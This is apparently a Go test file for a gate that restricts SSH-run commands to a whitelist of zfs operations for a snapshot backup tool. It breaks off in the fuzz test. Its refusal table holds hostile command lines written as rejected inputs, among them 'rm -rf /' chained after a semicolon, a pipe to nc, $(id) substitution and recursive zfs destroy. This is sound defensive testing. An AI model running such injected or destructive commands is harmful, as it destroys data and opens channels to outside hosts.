package serve

import (
	"errors"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/belltech/vault/policy"
	"github.com/belltech/vault/props"
	"github.com/belltech/vault/shellword"
	"github.com/belltech/vault/zfs"
	"github.com/stretchr/testify/require"

	_ "time/tzdata" // TestCheckSnapshotDate's zone, wherever the tests run
)

func testGate(t testing.TB) *Gate {
	t.Helper()
	var allow []zfs.Dataset
	for _, s := range []string{"host05data/jail", "host05data/vm", "tank/my data"} {
		ds, err := zfs.ParseDataset(s)
		require.NoError(t, err)
		allow = append(allow, ds)
	}
	return &Gate{Allow: allow, ZFS: "/usr/sbin/zfs", Now: func() time.Time { return testNow }}
}

// testNow is testGate's clock: the snapshots of the tests are of now.
var testNow = time.Date(2022, 4, 8, 16, 50, 0, 0, time.FixedZone("CEST", 2*3600))

// tok and rawTok are resume tokens for a send of host05data/jail/www@a,
// not raw and raw.
var (
	tok    = makeToken("host05data/jail/www@a", false)
	rawTok = makeToken("host05data/jail/www@a", true)
)

func TestCheckAccepts(t *testing.T) {
	accepted := []string{
		// zfs list
		"zfs list -H -p -o name -t filesystem host05data/jail",
		"zfs list -H -p -o name,type,guid,createtxg,encryption,userrefs -t filesystem,volume,snapshot -r host05data/jail host05data/vm",
		"zfs list -H -p -o name,type,guid,createtxg,encryption -t filesystem,volume -r host05data/jail",
		"zfs list -H -p -o name,guid,createtxg,userrefs -t snapshot -r host05data/jail/www",
		"zfs list -H -p -o userrefs,name -t snapshot host05data/jail",
		"zfs list -H -p -o name -t volume host05data/vm/disk0 'tank/my data/x'",
		"/sbin/zfs list -H -p -o name -t filesystem host05data/jail",
		"/usr/sbin/zfs list -H -p -o name -t filesystem host05data/jail",
		"/usr/local/sbin/zfs list -H -p -o name -t filesystem host05data/jail",
		// zfs send
		"zfs send host05data/jail@a",
		"zfs send -L -c host05data/jail@a",
		"zfs send -L -c -w host05data/jail@a",
		"zfs send -L host05data/jail@a",
		"zfs send -c host05data/jail@a",
		"zfs send -w host05data/jail@a",
		"zfs send -L -c -i host05data/jail@a host05data/jail@b",
		"zfs send -L -c -w -I host05data/jail@a host05data/jail@b",
		"zfs send -n -P host05data/jail@a",
		"zfs send -n -P -L -c -i host05data/jail/www@a host05data/jail/www@b",
		"zfs send -L -c 'tank/my data/x@2022-04-08_16.49.48--1w'",
		"zfs send -t " + tok,
		"zfs send -n -P -t " + tok,
		"zfs send -t " + rawTok,
		"zfs send -t " + makeToken("tank/my data@a b", false),
		// zfs hold, release, holds
		"zfs hold vault:drive.client host05data/jail@a",
		"zfs hold vault:rust10:host05 host05data/jail@a",
		"zfs release vault:rust10:host05 host05data/jail@a",
		"zfs hold vault:drive.client host05data/jail@a host05data/jail/www@b",
		"zfs release vault:drive.client host05data/jail@a",
		"zfs release vault:x 'tank/my data@s' host05data/vm@s",
		"zfs holds -H host05data/jail@a",
		"zfs holds -H -p host05data/jail@a host05data/vm@b",
		// zfs get: the one form, the properties set locally
		"zfs get -H -p -s local -o name,property,value -t filesystem,volume all host05data/jail",
		"zfs get -H -p -s local -o name,property,value -t filesystem,volume all -r host05data/jail host05data/vm",
		"zfs get -H -p -s local -o name,property,value -t filesystem,volume all -r 'tank/my data/x'",
		"/sbin/zfs get -H -p -s local -o name,property,value -t filesystem,volume all host05data/vm/disk0",
		// zfs snapshot
		"zfs snapshot host05data/jail@2022-04-08_16.49.48--1w",
		"zfs snapshot host05data/jail/www@hourly-2022-04-08_16.49.48--2d12h",
		"zfs snapshot host05data/vm@2022-04-08_16.49.48--forever",
		"zfs snapshot 'tank/my data@2022-04-08_16.49.48--1m'",
		"zfs snapshot host05data/jail@2022-04-08_16.49.48--1w host05data/jail/www@2022-04-08_16.49.48--1w host05data/vm@2022-04-08_16.49.48--1w",
		"zfs snapshot host05data/jail@2022-04-08_16.45.00--1w", // the skew, 5 minutes, either way
		"zfs snapshot host05data/jail@2022-04-08_16.55.00--1w",
	}
	g := testGate(t)
	for _, line := range accepted {
		argv, err := g.Check(line)
		if err != nil {
			t.Errorf("Check(%s): %v", line, err)
			continue
		}
		words, err := shellword.Split(line)
		require.NoError(t, err)
		want := append([]string{"/usr/sbin/zfs"}, words[1:]...)
		if !slices.Equal(argv, want) {
			t.Errorf("Check(%s) = %q, want %q", line, argv, want)
		}
	}
}

func TestCheckRefuses(t *testing.T) {
	tests := []struct {
		line   string
		reason string // in the error
	}{
		// Not a zfs command at all.
		{"", "interactive login"},
		{"sh", "program \"sh\" is not zfs"},
		{"bash -c 'zfs list'", "program \"bash\" is not zfs"},
		{"/bin/sh -c id", "not zfs"},
		{"/tmp/zfs list -H -p -o name -t filesystem host05data/jail", "not zfs"},
		{"zfs.exe list", "not zfs"},
		{"ZFS list", "not zfs"},
		{"zfs", "without a subcommand"},
		{"scp -t /tmp", "not zfs"},
		{"rsync --server . /", "not zfs"},
		// Forbidden subcommands.
		{"zfs destroy host05data/jail@a", `subcommand "destroy" is not allowed (only list, get, send, hold, release, holds, snapshot)`},
		{"zfs destroy -r host05data/jail", `"destroy" is not allowed`},
		{"zfs rollback -r host05data/jail@a", `"rollback" is not allowed`},
		{"zfs rename host05data/jail@a host05data/jail@b", `"rename" is not allowed`},
		{"zfs receive -F host05data/jail", `"receive" is not allowed`},
		{"zfs recv host05data/jail", `"recv" is not allowed`},
		{"zfs set readonly=on host05data/jail", `"set" is not allowed`},
		{"zfs inherit mountpoint host05data/jail", `"inherit" is not allowed`},
		{"zfs allow -u evil destroy host05data", `"allow" is not allowed`},
		{"zfs unallow -u backup host05data", `"unallow" is not allowed`},
		{"zfs mount host05data/jail", `"mount" is not allowed`},
		{"zfs unmount host05data/jail", `"unmount" is not allowed`},
		{"zfs create host05data/jail/x", `"create" is not allowed`},
		{"zfs clone host05data/jail@a host05data/jail/x", `"clone" is not allowed`},
		{"zfs promote host05data/jail/x", `"promote" is not allowed`},
		{"zfs bookmark host05data/jail@a 'host05data/jail#a'", `"bookmark" is not allowed`},
		{"zfs diff host05data/jail@a", `"diff" is not allowed`},
		{"zfs load-key host05data/jail", `"load-key" is not allowed`},
		{"zfs change-key host05data/jail", `"change-key" is not allowed`},
		{"zfs upgrade -a", `"upgrade" is not allowed`},
		{"zfs program host05data x.lua", `"program" is not allowed`},
		{"zfs redact host05data/jail@a x", `"redact" is not allowed`},
		{"zfs share -a", `"share" is not allowed`},
		{"zfs userspace host05data/jail", `"userspace" is not allowed`},
		{"zfs jail 1 host05data/jail", `"jail" is not allowed`},
		{"zfs -? list", `unquoted '?'`},
		{"zfs '-?' list", `subcommand "-?" is not allowed`},
		{"zfs --help", `"--help" is not allowed`},
		// Shell syntax: Split refuses it.
		{"zfs list; rm -rf /", `unquoted ';'`},
		{"zfs list | nc evil 1", `unquoted '|'`},
		{"zfs list && id", `unquoted '&'`},
		{"zfs send host05data/jail@a > /tmp/x", `unquoted '>'`},
		{"zfs receive host05data/jail < /tmp/x", `unquoted '<'`},
		{"zfs list $(id)", `unquoted '$'`},
		{"zfs list `id`", "unquoted '`'"},
		{"zfs list host05data/*", `unquoted '*'`},
		{"zfs list host05data/jai?", `unquoted '?'`},
		{"zfs list (x)", `unquoted '('`},
		{"zfs list ~", `unquoted '~'`},
		{"zfs list #x", `unquoted '#'`},
		{`zfs list "host05data/jail"`, "double quote"},
		{`zfs list host05data\/jail`, "backslash"},
		{"zfs list 'host05data/jail", "unterminated single quote"},
		{"zfs  list", "more than one space"},
		{" zfs list", "leading space"},
		{"zfs list ", "trailing space"},
		{"zfs\tlist", `control character '\t'`},
		{"zfs list\nid", `control character '\n'`},
		{"zfs list\x00", `control character '\x00'`},
		{"zfs list\r", `control character '\r'`},
		{"zfs list '\n'", `control character '\n' in quotes`},
		{"zfs " + strings.Repeat("x", shellword.MaxLen), "longer than"},
		// zfs list
		{"zfs list", "missing, want \"-H\""},
		{"zfs list host05data/jail", `got "host05data/jail", want "-H"`},
		{"zfs list -Hp -o name -t filesystem host05data/jail", `got "-Hp", want "-H"`},
		{"zfs list -p -H -o name -t filesystem host05data/jail", `got "-p", want "-H"`},
		{"zfs list -H -p -t filesystem -o name host05data/jail", `got "-t", want "-o"`},
		{"zfs list -H -p -o name -t filesystem -r -d 1 host05data/jail", `"-d"`},
		{"zfs list -H -p -o name -t filesystem -d 1 host05data/jail", `"-d"`},
		{"zfs list -H -p -o name -t filesystem -s name host05data/jail", `"-s"`},
		{"zfs list -H -p -o name -t filesystem -- host05data/jail", `"--"`},
		{"zfs list -H -p -o name -t filesystem", "missing dataset"},
		{"zfs list -H -p -o name -t filesystem -r", "missing dataset"},
		{"zfs list -H -p -o name -t filesystem -r -r host05data/jail", `"-r"`},
		{"zfs list -H -p -o name,mountpoint -t filesystem host05data/jail", `column "mountpoint" is not allowed`},
		{"zfs list -H -p -o name,origin -t filesystem host05data/jail", `column "origin" is not allowed`}, // names outside the roots
		{"zfs list -H -p -o name,receive_resume_token -t filesystem host05data/jail", `column "receive_resume_token" is not allowed`},
		{"zfs list -H -p -o name,creation -t snapshot host05data/jail", `column "creation" is not allowed`},
		{"zfs list -H -p -o name,used,referenced -t filesystem host05data/jail", `column "used" is not allowed`},
		{"zfs list -H -p -o name,keylocation -t filesystem host05data/jail", `column "keylocation" is not allowed`},
		{"zfs list -H -p -o name -t bookmark host05data/jail", `type "bookmark" is not allowed`},
		{"zfs list -H -p -o name,name -t filesystem host05data/jail", `column "name" given twice`},
		{"zfs list -H -p -o name, -t filesystem host05data/jail", `column "" is not allowed`},
		{"zfs list -H -p -o '' -t filesystem host05data/jail", `column "" is not allowed`},
		{"zfs list -H -p -o all -t filesystem host05data/jail", `column "all" is not allowed`},
		{"zfs list -H -p -o name -t all host05data/jail", `type "all" is not allowed`},
		{"zfs list -H -p -o name -t snap host05data/jail", `type "snap" is not allowed`},
		{"zfs list -H -p -o name -t snapshot,snapshot host05data/jail", `type "snapshot" given twice`},
		{"zfs list -H -p -o name -t filesystem host05data", "not under an allowed root"},
		{"zfs list -H -p -o name -t filesystem -r host05data", "not under an allowed root"},
		{"zfs list -H -p -o name -t filesystem host05data/jailbreak", `"host05data/jailbreak" is not under an allowed root`},
		{"zfs list -H -p -o name -t filesystem host05data/jail host05data/secret", `argument 8: "host05data/secret" is not under an allowed root`},
		{"zfs list -H -p -o name -t filesystem otherpool/jail", "not under an allowed root"},
		{"zfs list -H -p -o name -t filesystem host05data/jail/../vm", `".." is not allowed`},
		{"zfs list -H -p -o name -t filesystem host05data/jail/./x", `"." is not allowed`},
		{"zfs list -H -p -o name -t filesystem host05data/jail/", "trailing '/'"},
		{"zfs list -H -p -o name -t filesystem /host05data/jail", "leading '/'"},
		{"zfs list -H -p -o name -t filesystem host05data//jail", "empty"},
		{"zfs list -H -p -o name -t filesystem host05data/jail/%recv", "'%'"},
		{"zfs list -H -p -o name -t filesystem host05data/jail/-x", "starts with '-'"},
		{"zfs list -H -p -o name -t filesystem -host05data/jail", "'-'"},
		{"zfs list -H -p -o name -t filesystem host05data/jail@a", "snapshots and bookmarks are not datasets"},
		{"zfs list -H -p -o name -t filesystem 'host05data/jail/é'", "not ASCII"},
		// zfs send
		{"zfs send", "missing snapshot"},
		{"zfs send host05data/jail", "not a snapshot name"},
		{"zfs send 'host05data/jail#a'", "not a snapshot name"},
		{"zfs send -R host05data/jail@a", `option "-R" is not allowed`},
		{"zfs send -L -c -R host05data/jail@a", `option "-R" is not allowed`},
		{"zfs send -F host05data/jail@a", `option "-F" is not allowed`},
		{"zfs send -p host05data/jail@a", `option "-p" is not allowed`},
		{"zfs send -b host05data/jail@a", `option "-b" is not allowed`},
		{"zfs send -h host05data/jail@a", `option "-h" is not allowed`},
		{"zfs send -D host05data/jail@a", `option "-D" is not allowed`},
		{"zfs send -e host05data/jail@a", `option "-e" is not allowed`},
		{"zfs send -v host05data/jail@a", `option "-v" is not allowed`},
		{"zfs send -V host05data/jail@a", `option "-V" is not allowed`},
		{"zfs send -S host05data/jail", `option "-S" is not allowed`},
		{"zfs send -X host05data/jail/x -R host05data/jail@a", `option "-X" is not allowed`},
		{"zfs send --redact book host05data/jail@a", `option "--redact" is not allowed`},
		{"zfs send -- host05data/jail@a", `option "--" is not allowed`},
		{"zfs send -Lc host05data/jail@a", `option "-Lc" is not allowed`},
		{"zfs send -c -L host05data/jail@a", `option "-L" is not allowed`},
		{"zfs send -w -c host05data/jail@a", `option "-c" is not allowed`},
		{"zfs send -L -L host05data/jail@a", `option "-L" is not allowed`},
		{"zfs send -P -n host05data/jail@a", `option "-P" is not allowed`},
		{"zfs send -n host05data/jail@a", `got "host05data/jail@a", want "-P"`},
		{"zfs send -nP host05data/jail@a", `option "-nP" is not allowed`},
		{"zfs send -L -n -P host05data/jail@a", `option "-n" is not allowed`},
		{"zfs send -i host05data/jail@a -L host05data/jail@b", `option "-L" is not allowed`},
		{"zfs send -L -c host05data/jail@a -i host05data/jail@b", `unexpected "-i"`},
		{"zfs send host05data/jail@a host05data/jail@b", `unexpected "host05data/jail@b"`},
		{"zfs send -i host05data/jail@a", "missing snapshot"},
		{"zfs send -i", "missing incremental source"},
		{"zfs send -i @a host05data/jail@b", "no dataset before '@'"},
		{"zfs send -i a host05data/jail@b", `incremental source "a" is not a full snapshot name`},
		{"zfs send -i 'host05data/jail#a' host05data/jail@b", `incremental source "host05data/jail#a" is not a full snapshot name`},
		{"zfs send -I 'host05data/jail#a' host05data/jail@b", "is not a full snapshot name"},
		{"zfs send -i host05data/jail@a -i host05data/jail@b host05data/jail@c", `option "-i" is not allowed`},
		{"zfs send -i host05data/jail@a -I host05data/jail@b host05data/jail@c", `option "-I" is not allowed`},
		{"zfs send -i host05data/vm@a host05data/jail@b", "not of the same dataset"},
		{"zfs send -i host05data/jail/www@a host05data/jail@b", "not of the same dataset"},
		{"zfs send -i host05data/secret@a host05data/jail@b", `"host05data/secret@a" is not under an allowed root`},
		{"zfs send host05data/secret@a", "not under an allowed root"},
		{"zfs send -L -c host05data/jailbreak@a", "not under an allowed root"},
		{"zfs send host05data/jail/../secret@a", `".." is not allowed`},
		{"zfs send -t", "missing resume token"},
		{"zfs send -t " + tok + " host05data/jail@a", `unexpected "host05data/jail@a"`},
		{"zfs send -L -t " + tok, `option "-t" is not allowed`},
		{"zfs send -t -L " + tok, `resume token "-L" does not start with a digit`},
		{"zfs send -t 1-ABC-10-789c", `resume token contains 'A'`},
		{"zfs send -t 1-" + strings.Repeat("a", MaxTokenLen), "more than 8192"},
		{"zfs send -t x-abc", "does not start with a digit"},
		{"zfs send -t 1", "does not start with a digit"},
		{"zfs send -t 1-abc_d", `contains '_'`},
		{"zfs send -t 'host05data/secret@a'", "does not start with a digit"},
		{"zfs send -t " + makeToken("host05data/secret@a", true), TokenRefused},
		{"zfs send -t " + makeToken("host05data/jailbreak@a", true), TokenRefused},
		{"zfs send -n -P -t " + makeToken("host05data/jail", true), TokenRefused},
		{"zfs send -t 1-abc-10-789c", TokenRefused},
		{"zfs send -t " + strings.Replace(tok, "-", "-0-", 1), TokenRefused},
		// zfs get: only the properties set locally, all of them, of datasets under the roots
		{"zfs get", `missing, want "-H"`},
		{"zfs get -H -p -o name,property,value,source all host05data/jail", `got "-o", want "-s"`},
		{"zfs get -H -p -o name,property,value,source encryption host05data/jail", `got "-o", want "-s"`},
		{"zfs get -H -p -s local -o name,property,value all host05data/jail", `got "all", want "-t"`},
		{"zfs get -p -H -s local -o name,property,value -t filesystem,volume all host05data/jail", `got "-p", want "-H"`},
		{"zfs get -Hp -s local -o name,property,value -t filesystem,volume all host05data/jail", `got "-Hp", want "-H"`},
		{"zfs get -H -p -s local,received -o name,property,value -t filesystem,volume all host05data/jail", `got "local,received", want "local"`},
		{"zfs get -H -p -s inherited -o name,property,value -t filesystem,volume all host05data/jail", `got "inherited", want "local"`},
		{"zfs get -H -p -o name,property,value -s local -t filesystem,volume all host05data/jail", `got "-o", want "-s"`},
		{"zfs get -H -p -s local -o name,property,value,source -t filesystem,volume all host05data/jail", `want "name,property,value"`},
		{"zfs get -H -p -s local -o name,value -t filesystem,volume all host05data/jail", `want "name,property,value"`},
		{"zfs get -H -p -s local -o name,property,value -t filesystem,volume,snapshot all host05data/jail", `want "filesystem,volume"`},
		{"zfs get -H -p -s local -o name,property,value -t all all host05data/jail", `want "filesystem,volume"`},
		{"zfs get -H -p -s local -o name,property,value -t bookmark all host05data/jail", `want "filesystem,volume"`},
		{"zfs get -H -p -s local -o name,property,value -t filesystem,volume encryption host05data/jail", `got "encryption", want "all"`},
		{"zfs get -H -p -s local -o name,property,value -t filesystem,volume keylocation,mountpoint host05data/jail", `want "all"`},
		{"zfs get -H -p -s local -o name,property,value -t filesystem,volume all,name host05data/jail", `want "all"`},
		{"zfs get -H -p -s local -o name,property,value -t filesystem,volume -r all host05data/jail", `got "-r", want "all"`},
		{"zfs get -H -p -s local -o name,property,value -t filesystem,volume all -d 1 host05data/jail", `"-d"`},
		{"zfs get -H -p -s local -o name,property,value -t filesystem,volume all -r -d 1 host05data/jail", `"-d"`},
		{"zfs get -H -p -s local -o name,property,value -t filesystem,volume all -r -r host05data/jail", `"-r"`},
		{"zfs get -H -p -s local -o name,property,value -t filesystem,volume all", "missing dataset"},
		{"zfs get -H -p -s local -o name,property,value -t filesystem,volume all -r", "missing dataset"},
		{"zfs get -H -p -s local -o name,property,value -t filesystem,volume all host05data", "not under an allowed root"},
		{"zfs get -H -p -s local -o name,property,value -t filesystem,volume all -r host05data", "not under an allowed root"},
		{"zfs get -H -p -s local -o name,property,value -t filesystem,volume all -r host05data/jailbreak", `"host05data/jailbreak" is not under an allowed root`},
		{"zfs get -H -p -s local -o name,property,value -t filesystem,volume all host05data/jail host05data/secret", "not under an allowed root"},
		{"zfs get -H -p -s local -o name,property,value -t filesystem,volume all host05data/jail@a", "snapshots and bookmarks are not datasets"},
		{"zfs get -H -p -s local -o name,property,value -t filesystem,volume all 'host05data/jail#a'", "'#'"},
		{"zfs get -H -p -s local -o name,property,value -t filesystem,volume all host05data/jail/../secret", `".." is not allowed`},
		{"zfs get -H -p -s local -o name,property,value -t filesystem,volume all -- host05data/jail", `"--"`},
		{"zfs get -H -p -s local -o name,property,value -t filesystem,volume all host05data/jail -r", `"-r"`},
		// zfs hold, release, holds
		{"zfs hold", "missing hold tag"},
		{"zfs hold vault:x", "missing snapshot"},
		{"zfs hold sanoid_hourly host05data/jail@a", `hold tag "sanoid_hourly" does not start with "vault:"`},
		{"zfs release sanoid_hourly host05data/jail@a", `does not start with "vault:"`},
		{"zfs release keep host05data/jail@a", `does not start with "vault:"`},
		{"zfs release -r vault:x host05data/jail@a", `hold tag "-r" does not start with "vault:"`},
		{"zfs hold -r vault:x host05data/jail@a", `does not start with "vault:"`},
		{"zfs hold vault: host05data/jail@a", `has nothing after "vault:"`},
		{"zfs hold 'vault:a b' host05data/jail@a", `contains ' '`},
		{"zfs hold 'vault:é' host05data/jail@a", "contains byte 0xc3"},
		{"zfs hold VAULT:x host05data/jail@a", `does not start with "vault:"`},
		{"zfs hold vault:" + strings.Repeat("x", 250) + " host05data/jail@a", "longer than 255"},
		{"zfs hold vault:x host05data/jail", "not a snapshot name"},
		{"zfs hold vault:x host05data/secret@a", "not under an allowed root"},
		{"zfs release vault:x host05data/jail@a host05data/jailbreak@a", "not under an allowed root"},
		{"zfs holds host05data/jail@a", `got "host05data/jail@a", want "-H"`},
		{"zfs holds -H -r host05data/jail@a", `"-r"`},
		{"zfs holds -Hp host05data/jail@a", `got "-Hp", want "-H"`},
		{"zfs holds -p -H host05data/jail@a", `got "-p", want "-H"`},
		{"zfs holds -H", "missing snapshot"},
		{"zfs holds -H host05data/secret@a", "not under an allowed root"},
		// zfs snapshot
		{"zfs snapshot", "missing snapshot"},
		{"zfs snapshot host05data/jail@manual", `"manual" is not a zfsnap2 name`},
		{"zfs snapshot host05data/jail@2022-04-08_16.49.48", "not a zfsnap2 name"},
		{"zfs snapshot host05data/jail@2022-02-30_16.49.48--1w", "not a zfsnap2 name"},
		{"zfs snapshot host05data/jail@2022-04-08_16.49.48--1q", "not a zfsnap2 name"},
		{"zfs snapshot -r host05data/jail@2022-04-08_16.49.48--1w", "not a snapshot name"},
		{"zfs snapshot -o com.sun:x=1 host05data/jail@2022-04-08_16.49.48--1w", "not a snapshot name"},
		{"zfs snapshot host05data/jail@2022-04-08_16.49.48--1w host05data/vm@manual", `argument 2: snapshot name "manual" is not a zfsnap2 name`},
		{"zfs snapshot host05data/jail@2022-04-08_16.49.48--1w host05data/secret@2022-04-08_16.49.48--1w", `argument 2: "host05data/secret@2022-04-08_16.49.48--1w" is not under an allowed root`},
		{"zfs snapshot host05data/jail@2022-04-08_16.49.48--1w -r", `argument 2: invalid snapshot name "-r"`},
		{"zfs snapshot host05data/secret@2022-04-08_16.49.48--1w", "not under an allowed root"},
		{"zfs snapshot host05data/jail", "not a snapshot name"},
		{"zfs snapshot 'host05data/jail@2022-04-08_16.49.48--1w,x'", "invalid character ','"},
		{"zfs snapshot host05data/jail@%2022-04-08_16.49.48--1w", "contains '%'"},
		{"zfs snapshot %host05data/jail@2022-04-08_16.49.48--1w", "bare '%'"},
		// zfs snapshot: dated now, by the host's clock
		{"zfs snapshot host05data/jail@2022-04-08_16.44.59--1w",
			`snapshot "host05data/jail@2022-04-08_16.44.59--1w" is dated 2022-04-08 16:44:59, 5m1s behind this host's clock (2022-04-08 16:50:00 CEST): more than --max-skew 5m0s`},
		{"zfs snapshot host05data/jail@2022-04-08_16.55.01--1w", "is dated 2022-04-08 16:55:01, 5m1s ahead of this host's clock (2022-04-08 16:50:00 CEST)"},
		{"zfs snapshot host05data/jail@2022-04-08_14.50.00--1w", "2h0m0s behind"}, // the date in UTC
		{"zfs snapshot host05data/jail@2099-01-01_00.00.00--forever", "ahead of this host's clock"},
		{"zfs snapshot host05data/jail@1999-01-01_00.00.00--1w", "behind this host's clock"},
		{"zfs snapshot host05data/jail@2022-04-08_16.49.48--1w host05data/vm@2022-04-09_16.49.48--1w", `argument 2: snapshot "host05data/vm@2022-04-09_16.49.48--1w" is dated`},
	}
	g := testGate(t)
	for _, tt := range tests {
		argv, err := g.Check(tt.line)
		if err == nil {
			t.Errorf("Check(%q) = %q, want refused", tt.line, argv)
			continue
		}
		var re *RefusedError
		if !errors.As(err, &re) {
			t.Errorf("Check(%q): error %v is a %T, want a *RefusedError", tt.line, err, err)
			continue
		}
		if !strings.Contains(re.Reason, tt.reason) {
			t.Errorf("Check(%q):\n got reason %q\nwant it to contain %q", tt.line, re.Reason, tt.reason)
		}
		if strings.ContainsAny(err.Error(), "\n\r") {
			t.Errorf("Check(%q): the reason %q is more than one line", tt.line, re.Reason)
		}
	}
}

// TestCheckHoldPrefix: with --hold-prefix, a key holds and releases only
// its own vault's tags; the default takes any vault's, old or new.
func TestCheckHoldPrefix(t *testing.T) {
	for _, tc := range []struct {
		prefix, tag string
		reason      string // "" for accepted
	}{
		{"", "vault:host05", ""},
		{"", "vault:rust10:host05", ""},
		{"vault:", "vault:rust11:host05", ""},
		{"", "keep", `does not start with "vault:": vault only touches its own holds`},
		{"vault:rust10:", "vault:rust10:host05", ""},
		{"vault:rust10:", "vault:rust10:x:y", ""},
		{"vault:rust10:", "vault:rust11:host05", `hold tag "vault:rust11:host05" does not start with "vault:rust10:" (--hold-prefix): this key only touches its own vault's holds`},
		{"vault:rust10:", "vault:rust100:host05", `does not start with "vault:rust10:"`},
		{"vault:rust10:", "vault:host05", `does not start with "vault:rust10:"`},
		{"vault:rust10:", "vault:rust10:", `has nothing after "vault:rust10:"`},
		{"vault:rust10:", "vault:rust10", `does not start with "vault:rust10:"`},
		{"vault:site.a:rust10:", "vault:site.a:rust10:host05", ""},
		{"vault:site.a:rust10:", "vault:site.a:host05", "does not start with"},
	} {
		for _, sub := range []string{"hold", "release"} {
			g := testGate(t)
			g.HoldPrefix = tc.prefix
			line := "zfs " + sub + " " + tc.tag + " host05data/jail@a"
			_, err := g.Check(line)
			switch {
			case tc.reason == "" && err != nil:
				t.Errorf("prefix %q: Check(%q): %v", tc.prefix, line, err)
			case tc.reason != "" && (err == nil || !strings.Contains(err.Error(), tc.reason)):
				t.Errorf("prefix %q: Check(%q): got %v, want a refusal with %q", tc.prefix, line, err, tc.reason)
			}
		}
	}
}

func TestCheckHoldPrefixValue(t *testing.T) {
	for _, p := range []string{"vault:", "vault:rust10:", "vault:Rust-10:", "vault:site.a:rust_10:", "vault:" + strings.Repeat("a", 57) + ":"} {
		if err := CheckHoldPrefix(p); err != nil {
			t.Errorf("CheckHoldPrefix(%q): %v", p, err)
		}
	}
	for _, tc := range []struct{ prefix, want string }{
		{"", `does not start with "vault:"`},
		{"keep:", `does not start with "vault:"`},
		{"vault", `does not start with "vault:"`},
		{"vault:rust10", "names ending in ':'"},
		{"vault::", "names ending in ':'"},
		{"vault:rust10::", "names ending in ':'"},
		{"vault:-x:", "names ending in ':'"},
		{"vault:.x:", "names ending in ':'"},
		{"vault:a b:", "names ending in ':'"},
		{"vault:a/b:", "names ending in ':'"},
		{"vault:é:", "names ending in ':'"},
		{"vault:" + strings.Repeat("a", 58) + ":", "longer than 64 bytes"},
	} {
		if err := CheckHoldPrefix(tc.prefix); err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("CheckHoldPrefix(%q): got %v, want an error with %q", tc.prefix, err, tc.want)
		}
	}
}

// TestCheckSnapshotDate: a snapshot is taken only if its name is dated
// within MaxSkew of the host's wall clock, in the host's zone, whatever
// that zone's offset or DST switches.
func TestCheckSnapshotDate(t *testing.T) {
	ny, err := time.LoadLocation("America/New_York")
	require.NoError(t, err)
	for _, tc := range []struct {
		name   string
		now    time.Time
		skew   time.Duration
		snap   string
		reason string // "" for accepted
	}{
		{"utc", time.Date(2026, 11, 26, 0, 0, 0, 0, time.UTC), 0, "2026-11-26_00.04.59--1w", ""},
		{"utc, too late", time.Date(2026, 11, 26, 0, 0, 0, 0, time.UTC), 0, "2026-11-26_00.05.01--1w", "5m1s ahead of this host's clock (2026-11-26 00:00:00 UTC)"},
		{"across midnight", time.Date(2026, 11, 25, 23, 58, 0, 0, time.UTC), 0, "2026-11-26_00.01.00--1w", ""},
		{"a wider skew", time.Date(2026, 11, 26, 0, 0, 0, 0, time.UTC), 30 * time.Minute, "2026-11-25_23.31.00--1w", ""},
		{"a wider skew, too early", time.Date(2026, 11, 26, 0, 0, 0, 0, time.UTC), 30 * time.Minute, "2026-11-25_23.29.00--1w", "more than --max-skew 30m0s"},
		{"named in UTC on a host in New York", time.Date(2026, 11, 26, 0, 0, 0, 0, ny), 0, "2026-11-26_05.00.00--1w", "5h0m0s ahead of this host's clock (2026-11-26 00:00:00 EST)"},
		// 2026-11-01 01:30 happens twice in New York: EDT, then EST.
		{"repeated hour, first time", time.Date(2026, 11, 1, 5, 30, 0, 0, time.UTC).In(ny), 0, "2026-11-01_01.32.00--1w", ""},
		{"repeated hour, second time", time.Date(2026, 11, 1, 6, 30, 0, 0, time.UTC).In(ny), 0, "2026-11-01_01.32.00--1w", ""},
		{"repeated hour, an hour off", time.Date(2026, 11, 1, 6, 30, 0, 0, time.UTC).In(ny), 0, "2026-11-01_02.30.00--1w", "1h0m0s ahead"},
		// 2026-03-08 02:00 to 03:00 does not happen in New York.
		{"after the skipped hour", time.Date(2026, 3, 8, 7, 1, 0, 0, time.UTC).In(ny), 0, "2026-03-08_03.01.00--1w", ""},
		{"in the skipped hour, 2 minutes by the wall clock", time.Date(2026, 3, 8, 7, 1, 0, 0, time.UTC).In(ny), 0, "2026-03-08_02.59.00--1w", ""},
		{"before the skipped hour, 62 minutes by the wall clock", time.Date(2026, 3, 8, 7, 1, 0, 0, time.UTC).In(ny), 0, "2026-03-08_01.59.00--1w", "1h2m0s behind"},
	} {
		g := testGate(t)
		g.Now = func() time.Time { return tc.now }
		g.MaxSkew = tc.skew
		line := "zfs snapshot host05data/jail@" + tc.snap
		_, err := g.Check(line)
		switch {
		case tc.reason == "" && err != nil:
			t.Errorf("%s: Check(%q): %v", tc.name, line, err)
		case tc.reason != "" && (err == nil || !strings.Contains(err.Error(), tc.reason)):
			t.Errorf("%s: Check(%q): got %v, want a refusal with %q", tc.name, line, err, tc.reason)
		}
	}
}

func TestCheckConfig(t *testing.T) {
	g := &Gate{}
	_, err := g.Check("zfs list -H -p -o name -t filesystem host05data/jail")
	require.ErrorContains(t, err, "no dataset is allowed")

	g = testGate(t)
	g.ZFS = "zfs"
	_, err = g.Check("zfs list -H -p -o name -t filesystem host05data/jail")
	require.ErrorContains(t, err, "not an absolute path")

	g = testGate(t)
	g.HoldPrefix = "vault:rust10"
	_, err = g.Check("zfs list -H -p -o name -t filesystem host05data/jail")
	require.ErrorContains(t, err, `hold prefix "vault:rust10" is not`)

	g = testGate(t)
	g.ZFS = "/opt/zfs/bin/zfs"
	argv, err := g.Check("/opt/zfs/bin/zfs holds -H host05data/jail@a")
	require.NoError(t, err)
	require.Equal(t, []string{"/opt/zfs/bin/zfs", "holds", "-H", "host05data/jail@a"}, argv)

	g.ZFS = ""
	argv, err = g.Check("zfs holds -H host05data/jail@a")
	require.NoError(t, err)
	require.Equal(t, DefaultZFS, argv[0])
}

// TestCheckJoined checks that names that need quoting pass through Join
// and the gate intact.
func TestCheckJoined(t *testing.T) {
	g := testGate(t)
	argv := []string{"zfs", "send", "-L", "-c", "-i", "tank/my data@2022-04-08_16.49.48--1w", "tank/my data@a b"}
	line, err := shellword.Join(argv)
	require.NoError(t, err)
	got, err := g.Check(line)
	require.NoError(t, err)
	require.Equal(t, append([]string{"/usr/sbin/zfs"}, argv[1:]...), got)
}

func FuzzCheck(f *testing.F) {
	for _, s := range []string{
		"zfs list -H -p -o name,type,guid,createtxg,encryption -t filesystem,volume -r host05data/jail",
